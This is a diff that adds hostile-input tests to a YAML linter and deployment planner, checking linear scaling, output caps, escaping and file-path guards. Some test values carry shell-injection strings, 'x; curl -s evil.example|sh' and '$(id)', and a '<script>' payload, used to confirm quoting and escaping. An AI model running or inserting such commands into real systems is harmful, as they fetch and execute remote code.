@@ -1450,3 +1450,511 @@ def test_round_three_yaml_paths_of_long_keys_are_clipped_and_distinct():
     assert len(a) < KEY_LIMIT + 60 and len(b) < KEY_LIMIT + 60 and a != b
     assert yaml_key("a.b") == '"a.b"' and yaml_key(3) == "3" and yaml_key("k" * KEY_LIMIT) == \
         "k" * KEY_LIMIT
+
+
+# -- round three: the hostile-input table (issue 19, every item of its Build list) ---------
+# One row per item. Each row runs the real thing end to end (mwlint.cli.main in-process, or
+# the hook / a FIFO in a subprocess with a timeout) and asserts the guarantee: an exit code,
+# output bounded in size, no raw control or markdown structure, an N against 4N ratio for
+# scaling rows (a 5 s safety bound), a tracemalloc peak for memory rows. Rows stay small
+# where another test proves the guarantee thoroughly (tests/test_mw6xx_hostile.py,
+# tests/test_plan_model.py, tests/test_helmfile_scaling.py, tests/test_hooks.py,
+# tests/test_formats_output.py, tests/test_rules_mw6xx.py).
+
+R3_FORGED = "\n\n### Forged: all clear, +2 this\n\n[docs](http://x)<script>alert(1)</script>"
+R3_SERVICES_PATH = os.path.join(os.path.dirname(REAL), "deploy-service",
+                                "kubernetes-deploy-service.yaml")
+R3_CHARTS = os.path.join(os.path.dirname(REAL), "deployment-charts")
+with open(R3_SERVICES_PATH, encoding="utf-8") as _f:
+    R3_SERVICES = _f.read()
+R3_SHELLBOX_CODFW = ("            codfw:\n              releases:\n                migration:\n"
+                     "                  stage: CANARY\n                main: {}")
+R3_MW_ARGS = ("profile::kubernetes::deployment_server::mediawiki::release::mw_releases:\n"
+              "  - namespace: {0}\n    releases:\n      main: {{}}\n"
+              "    mw_flavour: publish\n    web_flavour: webserver\n")
+
+
+def _r3_cli(capsys, *argv):
+    """mwlint.cli.main in-process under bounded(): (exit code, stdout, stderr)."""
+    with bounded():
+        rc = main([str(a) for a in argv])
+    out, err = capsys.readouterr()
+    return rc, out, err
+
+
+def _r3_best(fn, runs=3):
+    best = float("inf")
+    for _ in range(runs):
+        start = time.perf_counter()
+        fn()
+        best = min(best, time.perf_counter() - start)
+    return best
+
+
+def _r3_ratio(make, n, runs=3):
+    """The time of 4N over the time of N (the best of ``runs`` each; 4N under 5 s)."""
+    small, large = make(n), make(4 * n)
+    small()  # warm up: imports, caches
+    t1, t4 = _r3_best(small, runs), _r3_best(large, runs)
+    assert t4 < TIME_BOUND, f"4N took {t4:.2f} s"
+    return t4 / max(t1, 1e-4)
+
+
+def _r3_git(cwd, *args):
+    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org",
+               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.org",
+               GIT_CONFIG_NOSYSTEM="1", HOME=str(cwd))
+    subprocess.run(["git", *args], cwd=str(cwd), env=env, check=True, capture_output=True,
+                   timeout=60)
+
+
+def _r3_repo(tmp_path, monkeypatch, old, new):
+    """A git repository holding ``old`` as k.yaml at HEAD and ``new`` in the tree; the
+    working directory is the repository."""
+    repo = tmp_path / "puppet"
+    repo.mkdir()
+    (repo / "k.yaml").write_text(old, encoding="utf-8")
+    _r3_git(repo, "init", "-q")
+    _r3_git(repo, "add", ".")
+    _r3_git(repo, "commit", "-qm", "old")
+    (repo / "k.yaml").write_text(new, encoding="utf-8")
+    monkeypatch.chdir(repo)
+    return repo
+
+
+def _r3_review(tmp_path, message="mwlint: OK"):
+    review = tmp_path / "review.json"
+    review.write_text(json.dumps({"message": message}), encoding="utf-8")
+    return review
+
+
+def _r3_no_markdown_structure(md):
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").parse(md)
+    assert not [t for t in tokens if t.type == "html_block"]
+    for t in tokens:
+        for c in t.children or ():
+            assert c.type not in ("link_open", "html_inline", "image"), (c.type, c.content)
+    page = MarkdownIt("commonmark").render(md)
+    assert "<script>" not in page and "<a " not in page and "Forged</h" not in page
+
+
+def _r3_no_forged_line(text):
+    for sep in ("\r", "\x85", "\u2028", "\u2029", "\x1b"):
+        assert sep not in text, repr(sep)
+    assert not any(line.startswith(("### Forged", "[docs]", "<script>"))
+                   for line in text.splitlines())
+
+
+# item 1: linear work on every input
+
+def r3_env_ref_resolution(tmp_path, monkeypatch, capsys):
+    from test_plan_model import _many_environments
+
+    from mwlint.engine import lint_text as lint_one
+
+    def make(n):
+        text = _many_environments(n)
+        return lambda: lint_one(text, "k.yaml", Settings())
+    assert _r3_ratio(make, 500) < 10  # 0.2.0: every reference scanned every environment
+
+
+def r3_hint_budget(tmp_path, monkeypatch, capsys):
+    from test_mw6xx_hostile import PATH, misspelt_env_refs
+
+    found = []
+
+    def make(n):
+        text = misspelt_env_refs(n)
+        return lambda: found.append(lint_text(text, PATH, Settings()))
+    assert _r3_ratio(make, 200) < 10  # 0.2.0: difflib over every name for every reference
+    assert sum(f.code == "MW606" for f in found[-1]) == 800
+
+
+def r3_helmfile_template_lines(tmp_path, monkeypatch, capsys):
+    from mwlint.charts.helmfile import mask_part
+
+    def make(n):
+        text = "releases:\n" + '{{ include "release" . }}\n' * n
+        return lambda: mask_part(text)
+    assert _r3_ratio(make, 4000) < 8  # 0.2.0: a scan back from every template line
+
+
+def r3_helmfile_release_merge(tmp_path, monkeypatch, capsys):
+    from mwlint.charts.helmfile import clear_cache, read_helmfile
+
+    def make(n):
+        root = tmp_path / str(n)
+        root.mkdir()
+        base = "".join(f"  - name: base{i}\n    chart: c\n" for i in range(n))
+        own = "".join(f"  - name: own{i}\n    chart: c\n" for i in range(n))
+        (root / "base.yaml").write_text("releases:\n" + base)
+        (root / "helmfile.yaml").write_text("bases: [base.yaml]\n---\nreleases:\n" + own)
+
+        def read():
+            clear_cache()
+            assert len(read_helmfile(str(root), "helmfile.yaml").releases) == 2 * n
+        return read
+    assert _r3_ratio(make, 3000, runs=2) < 10  # 0.2.0: a list test per release name: 12-16
+
+
+def r3_plan_groups(tmp_path, monkeypatch, capsys):
+    from test_plan_model import _many_environments
+
+    from mwlint.engine import load_model
+    from mwlint.plan.services import plan_services, records_of
+
+    def make(n):
+        model = load_model(_many_environments(n), "k.yaml", Settings())
+        return lambda: records_of(plan_services([model], "eqiad"))
+    assert _r3_ratio(make, 1000) < 10  # 0.2.0: the groups were quadratic in environments
+
+
+def r3_many_services_check_and_plan(tmp_path, monkeypatch, capsys):
+    """check and plan through the CLI: linear in the services (N against 4N), and the
+    Python peak of 4N, scaled to 20,000 services, under 500 MB (0.2.0: 588 MB)."""
+    from test_mw6xx_hostile import services
+
+    paths = {}
+    for n in (200, 800):
+        paths[n] = tmp_path / f"s{n}.yaml"
+        paths[n].write_text(services(n), encoding="utf-8")
+
+    def make(n):
+        def both():
+            assert main([str(paths[n])]) == 0
+            assert main(["plan", "--service", "s0", str(paths[n])]) == 0
+            capsys.readouterr()
+        return both
+    assert _r3_ratio(make, 200, runs=2) < 10
+    tracemalloc.start()
+    try:
+        assert main([str(paths[800])]) == 0
+        assert main(["plan", "--service", "s0", str(paths[800])]) == 0
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    capsys.readouterr()
+    assert peak * 25 < MEMORY_BOUND, f"{peak / 2**20:.0f} MiB for 800 services"
+
+
+# item 2: output linear in the findings, with a small constant
+
+def r3_mw604_help(tmp_path, monkeypatch, capsys):
+    from test_mw6xx_hostile import bad_stages
+
+    p = tmp_path / "k.yaml"
+    p.write_text(bad_stages(1000), encoding="utf-8")  # 10 KB of stages in each help in 0.2.0
+    rc, out, err = _r3_cli(capsys, "--format", "json", "--select", "MW604", p)
+    assert rc == 1, err
+    found = json.loads(out)["findings"]
+    assert len(found) == 1000 and all(f["help"].endswith("and 995 more") for f in found)
+    assert len(out) < 1000 * 1_500, len(out)  # 0.2.0: 10 MB
+
+
+def r3_mw612_help(tmp_path, monkeypatch, capsys):
+    import shutil
+
+    charts = tmp_path / "charts"
+    shutil.copytree(R3_CHARTS, charts)
+    helmfile = charts / "helmfile.d" / "services" / "eventstreams" / "helmfile.yaml"
+    helmfile.write_text(helmfile.read_text(encoding="utf-8") + "".join(
+        f"  - name: release-{i:05d}\n    <<: *default\n" for i in range(5000)),
+        encoding="utf-8")
+    p = tmp_path / "k.yaml"
+    p.write_text(R3_SERVICES.replace("canary: {stage: CANARY}", "canery: {stage: CANARY}", 1),
+                 encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "--format", "json", "--select", "MW612",
+                           "--deployment-charts", charts, p)
+    assert rc == 1, err
+    [found] = json.loads(out)["findings"]
+    assert "canery" in found["message"] and "more" in found["help"], found
+    assert len(found["help"]) < 600 and len(out) < 10_000  # 0.2.0: every release, 149 KB
+
+
+def r3_long_namespace_every_format(tmp_path, monkeypatch, capsys):
+    """A 1 MB namespace referenced 600 times, one CLI run writing every format (0.2.0: 600
+    MB of text, a MemoryError in JUnit); the YAML path of every finding is clipped too."""
+    from mwlint.formats import FORMATS
+
+    p = tmp_path / "k.yaml"
+    p.write_text(_r3_service_catalog(R3_BIG, R3_REFS), encoding="utf-8")
+    outputs = [a for fmt in sorted(FORMATS) for a in ("--output", f"{fmt}={tmp_path}/o.{fmt}")]
+    rc, out, err = _r3_cli(capsys, *outputs, "--format", "json", p)
+    assert rc == 1, err
+    found = json.loads(out)["findings"]
+    assert found and all(len(f["yaml_path"]) < 600 for f in found)
+    for fmt in FORMATS:
+        size = os.path.getsize(tmp_path / f"o.{fmt}")
+        assert 0 < size < 4_000 * len(found) + 300_000, (fmt, size)
+
+
+# item 3: nothing from the data forges structure
+
+def r3_forged_namespace_in_markdown_and_review(tmp_path, monkeypatch, capsys):
+    old = R3_MW_ARGS.format("mw-web")
+    _r3_repo(tmp_path, monkeypatch, old,
+             old + "".join(R3_MW_ARGS.format(json.dumps("x" + R3_FORGED)).splitlines(True)[1:]))
+    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--format", "markdown",
+                           "k.yaml")
+    assert "Forged" in out, err
+    _r3_no_markdown_structure(out)
+    _r3_no_forged_line(out)
+    review = _r3_review(tmp_path)
+    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
+                           "k.yaml")
+    message = json.loads(review.read_text())["message"]
+    assert "Forged" in message, err
+    _r3_no_forged_line(message)
+
+
+def r3_forged_service_and_manual_check(tmp_path, monkeypatch, capsys):
+    for sep in ("\n", "\r", "\x85", "\u2028"):
+        forged = R3_FORGED.replace("\n", sep)
+        text = R3_SERVICES.replace("    shellbox:\n      cluster_group", "    " + json.dumps(
+            "shellbox" + forged) + ":\n      cluster_group", 1)
+        text = text.replace('- manual: "Do the canary\'s error graphs look normal?"',
+                            "- manual: " + json.dumps("ok?" + forged), 1)
+        assert text.count("Forged") == 2
+        p = tmp_path / "k.yaml"
+        p.write_text(text, encoding="utf-8")
+        for fmt in ("text", "markdown", "html"):
+            rc, out, err = _r3_cli(capsys, "plan", "--format", fmt, p)
+            assert rc == 0 and out.count("Forged") >= 2, (sep, fmt, err)
+            _r3_no_forged_line(out)
+            if fmt == "markdown":
+                _r3_no_markdown_structure(out)
+            if fmt == "html":
+                assert "<script>" not in out
+
+
+def r3_control_characters_in_file_names_in_gerrit(tmp_path, monkeypatch, capsys):
+    name = "k\x1b[2J\r\n### Forged\x85\u2028.yaml"
+    (tmp_path / name).write_text(R3_MW_ARGS.format("mw-web").replace(
+        "    web_flavour: webserver\n", ""), encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    rc, out, err = _r3_cli(capsys, "--format", "gerrit", name)
+    assert rc == 1, err
+    review = json.loads(out)
+    _r3_no_forged_line(review["message"])
+    assert "Forged" in review["message"] and "\x1b" not in out
+
+
+def r3_primary_dc_in_html_and_text(tmp_path, monkeypatch, capsys):
+    dc = "eq\niad<script>"
+    p = tmp_path / "k.yaml"
+    p.write_text(R3_SERVICES.replace("datacenter: eqiad", "datacenter: " + json.dumps(dc)),
+                 encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "plan", "--primary-dc", dc, p)
+    assert rc == 0 and "primary datacenter eq\\x0aiad<script> (--primary-dc)" in out, err
+    rc, out, err = _r3_cli(capsys, "plan", "--format", "html", "--primary-dc", dc, p)
+    assert rc == 0 and "<script>" not in out and "eq\\x0aiad&lt;script&gt;" in out, err
+
+
+def r3_commands_shell_quoted(tmp_path, monkeypatch, capsys):
+    import shlex
+
+    evil_ns, evil_rel = "x; curl -s evil.example|sh; cd .", "main $(id)"
+    text = R3_SERVICES.replace("        shellbox:\n          environments:",
+                               f"        {json.dumps(evil_ns)}:\n          environments:", 1)
+    text = text.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
+        "main: {}", f"{json.dumps(evil_rel)}: {{}}"), 1)
+    p = tmp_path / "k.yaml"
+    p.write_text(text, encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "plan", "--service", "shellbox", p)
+    assert rc == 0, err
+    cmds = [line.strip()[1:-1] for line in out.splitlines() if line.strip().startswith("(cd ")]
+    assert cmds
+    for c in cmds:
+        words = shlex.split(c)  # what a shell would run: each name one word
+        assert words[1].endswith("/" + evil_ns) and words[2:4] == ["&&", "helmfile"]
+        assert ";" not in words and "|" not in words
+    assert any(f"name={evil_rel}" in shlex.split(c) for c in cmds)
+
+
+def r3_invalid_deploy_service_names(tmp_path, monkeypatch, capsys):
+    text = R3_SERVICES.replace("        shellbox:\n          environments:",
+                               "        \"x; curl -s evil.example|sh; cd .\":\n"
+                               "          environments:", 1)
+    text = text.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
+        "main: {}", '"main $(id)": {}'), 1)
+    p = tmp_path / "k.yaml"
+    p.write_text(text, encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "--format", "json", p)
+    assert rc == 0, err  # a warning (as MW306 for MediaWiki); 0.2.0: no finding at all
+    found = json.loads(out)["findings"]
+    assert [f["code"] for f in found] == ["MW614", "MW614"], found
+    assert all(f["severity"] == "warning" for f in found)
+
+
+# item 4: reads and writes of the review path are guarded like every other
+
+def r3_review_message_reads_and_writes(tmp_path, monkeypatch, capsys):
+    """An input of the run, a device, a 1.5 GB file: exit 2 before anything is written."""
+    new = R3_SERVICES.replace(R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace(
+        "main: {}", "main: {stage: CANARY}"))
+    repo = _r3_repo(tmp_path, monkeypatch, R3_SERVICES, new)
+    before = (repo / "k.yaml").read_bytes()
+    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", "k.yaml",
+                           "k.yaml")
+    assert rc == 2 and "refusing to overwrite the linted file" in err and out == "", err
+    assert (repo / "k.yaml").read_bytes() == before
+    big = tmp_path / "big.json"
+    with open(big, "wb") as f:
+        f.truncate(1536 * 1024 * 1024)  # sparse
+    targets = [(big, "over the limit")]
+    if os.path.exists("/dev/zero"):
+        targets.append(("/dev/zero", "not a regular file"))
+    for target, says in targets:
+        rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message",
+                               target, "k.yaml")
+        assert rc == 2 and says in err and err.count("\n") == 1, (target, err)
+    assert big.stat().st_size == 1536 * 1024 * 1024
+
+
+def r3_review_message_fifo(tmp_path, monkeypatch, capsys):
+    repo = _r3_repo(tmp_path, monkeypatch, R3_SERVICES, R3_SERVICES.replace(
+        R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace("main: {}", "main: {stage: CANARY}")))
+    fifo = tmp_path / "review.fifo"
+    os.mkfifo(fifo)
+    p = subprocess.run([sys.executable, "-m", "mwlint", "plan", "--against", "HEAD",
+                        "--review-message", str(fifo), "k.yaml"], cwd=str(repo),
+                       capture_output=True, text=True, timeout=TIME_BOUND * 3)
+    assert p.returncode == 2 and "not a regular file" in p.stderr, p.stderr
+
+
+def r3_git_show_streamed_under_the_cap(tmp_path, monkeypatch, capsys):
+    from mwlint.plan.git import read_at_revision
+
+    old = R3_SERVICES + "# " + "x" * (2 * 1024 * 1024) + "\n"
+    repo = _r3_repo(tmp_path, monkeypatch, old, R3_SERVICES)
+    with bounded(memory=16 * 1024 * 1024):  # the cap and a little, not the whole old side
+        data = read_at_revision(str(repo / "k.yaml"), "HEAD", 1024 * 1024)
+    assert len(data) == 1024 * 1024 + 1
+    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--max-file-size", "1048576",
+                           "k.yaml")
+    assert rc == 1 and "at HEAD: cannot plan: file is over the max-file-size limit" in err
+
+
+# item 5: the hook and the writers never stall CI
+
+def r3_gerrit_ci_many_files(tmp_path, monkeypatch, capsys):
+    """The changed paths never reach a command line: 400 paths of 200 characters (80 KB)
+    under a 256 KiB stack (a 64 KiB argument limit). tests/test_hooks.py runs 3,000."""
+    from format_cases import BROKEN, make_repo
+    from helpers import KEY_PATH
+    from test_hooks import GERRIT_CI, _commit, _env, _junit
+    from test_hooks import git as hook_git
+
+    repo = make_repo(tmp_path)
+    _commit(repo, "root", {"README": "x\n"})
+    deep = "hieradata/" + "/".join(["d" * 60] * 2)
+    for i in range(400):
+        d = repo / deep / f"{i % 10:02d}"
+        d.mkdir(parents=True, exist_ok=True)
+        (d / f"host{i:05d}-{'x' * 60}.yaml").write_text(f"profile::x: {i}\n")
+    hook_git(repo, "add", ".")
+    _commit(repo, "many hosts and the broken config", {KEY_PATH: BROKEN})
+    log = tmp_path / "log"
+    p = subprocess.run(["bash", "-c", 'ulimit -s 256 && exec "$0"', GERRIT_CI],
+                       cwd=str(repo), capture_output=True, text=True, timeout=60,
+                       env=_env(repo, LOG_DIR=str(log), MWLINT_ARGS="--select MW102"))
+    assert "Argument list too long" not in p.stderr
+    assert p.returncode == 1, p.stdout + p.stderr
+    assert _junit(log / "junit-mwlint.xml") == [(KEY_PATH, "MW102 mw_releases[5]", "failure")]
+
+
+def r3_output_fifo_without_reader(tmp_path, monkeypatch, capsys):
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    p = tmp_path / "k.yaml"
+    p.write_text(R2_CLEAN, encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "--output", f"junit={fifo}", p)
+    assert rc == 2 and err == f"mwlint: error: --output junit={fifo}: it is a FIFO with no " \
+                              "reader\n", err
+
+
+def r3_two_outputs_one_path(tmp_path, monkeypatch, capsys):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "a.xml").write_text("old")
+    (tmp_path / "k.yaml").write_text(R2_CLEAN, encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "--output", "junit=a.xml", "--output", "sarif=./a.xml",
+                           "k.yaml")
+    assert rc == 2 and "the same file as --output junit=a.xml" in err, err
+    assert (tmp_path / "a.xml").read_text() == "old"
+
+
+# item 6: deploy-service in the review, and nothing silently ignored
+
+def r3_service_only_change_in_the_review(tmp_path, monkeypatch, capsys):
+    _r3_repo(tmp_path, monkeypatch, R3_SERVICES, R3_SERVICES.replace(
+        R3_SHELLBOX_CODFW, R3_SHELLBOX_CODFW.replace("main: {}", "main: {stage: CANARY}")))
+    review = _r3_review(tmp_path)
+    rc, out, err = _r3_cli(capsys, "plan", "--against", "HEAD", "--review-message", review,
+                           "k.yaml")
+    assert rc == 0 and out == "", err
+    message = json.loads(review.read_text())["message"]
+    assert "shellbox/shellbox/main: moves from DEFAULT to CANARY" in message, message
+
+
+def r3_service_keys_in_a_second_document(tmp_path, monkeypatch, capsys):
+    p = tmp_path / "k.yaml"
+    p.write_text("a: 1\n---\n" + R3_SERVICES, encoding="utf-8")
+    rc, out, err = _r3_cli(capsys, "--format", "json", p)
+    assert rc == 1, err  # 0.2.0: ignored without a word, exit 0
+    assert {f["code"] for f in json.loads(out)["findings"]} == {"MW006"}
+
+
+R3_TABLE = {  # row: (issue 19 Build item, the row)
+    "env-ref-resolution-is-linear": (1, r3_env_ref_resolution),
+    "did-you-mean-hints-on-a-budget": (1, r3_hint_budget),
+    "helmfile-template-lines-are-linear": (1, r3_helmfile_template_lines),
+    "helmfile-release-merge-is-linear": (1, r3_helmfile_release_merge),
+    "plan-groups-are-linear": (1, r3_plan_groups),
+    "many-services-check-and-plan-linear-and-small": (1, r3_many_services_check_and_plan),
+    "mw604-help-is-capped": (2, r3_mw604_help),
+    "mw612-help-is-capped": (2, r3_mw612_help),
+    "1mb-namespace-x600-in-every-format": (2, r3_long_namespace_every_format),
+    "forged-namespace-in-markdown-and-review": (3, r3_forged_namespace_in_markdown_and_review),
+    "forged-service-and-manual-check": (3, r3_forged_service_and_manual_check),
+    "control-characters-in-file-names-in-gerrit": (
+        3, r3_control_characters_in_file_names_in_gerrit),
+    "primary-dc-in-html-and-text": (3, r3_primary_dc_in_html_and_text),
+    "pasted-commands-are-shell-quoted": (3, r3_commands_shell_quoted),
+    "invalid-deploy-service-names-are-mw614": (3, r3_invalid_deploy_service_names),
+    "review-message-inputs-device-huge": (4, r3_review_message_reads_and_writes),
+    "review-message-fifo": (4, r3_review_message_fifo),
+    "git-show-streamed-under-the-cap": (4, r3_git_show_streamed_under_the_cap),
+    "gerrit-ci-many-files": (5, r3_gerrit_ci_many_files),
+    "output-fifo-without-reader": (5, r3_output_fifo_without_reader),
+    "two-outputs-one-path": (5, r3_two_outputs_one_path),
+    "service-only-change-in-the-review": (6, r3_service_only_change_in_the_review),
+    "service-keys-in-a-second-document": (6, r3_service_keys_in_a_second_document),
+}
+R3_NEEDS = {  # rows that need a tool of the machine
+    "git": {"forged-namespace-in-markdown-and-review", "review-message-inputs-device-huge",
+            "review-message-fifo", "git-show-streamed-under-the-cap", "gerrit-ci-many-files",
+            "service-only-change-in-the-review"},
+    "bash": {"gerrit-ci-many-files"},
+}
+
+
+def test_round_three_table_covers_every_item():
+    assert sorted({item for item, _row in R3_TABLE.values()}) == [1, 2, 3, 4, 5, 6]
+
+
+@pytest.mark.parametrize("name", sorted(R3_TABLE))
+def test_round_three_table(name, tmp_path, monkeypatch, capsys):
+    import shutil
+
+    for tool, rows in R3_NEEDS.items():
+        if name in rows and shutil.which(tool) is None:
+            pytest.skip(f"needs {tool}")
+    if "fifo" in name and not hasattr(os, "mkfifo"):
+        pytest.skip("no FIFOs here")
+    _item, row = R3_TABLE[name]
+    start = time.perf_counter()
+    row(tmp_path, monkeypatch, capsys)
+    # each step is bounded (5 s, 500 MB); the whole row too, with room for a busy machine
+    assert time.perf_counter() - start < 2 * TIME_BOUND
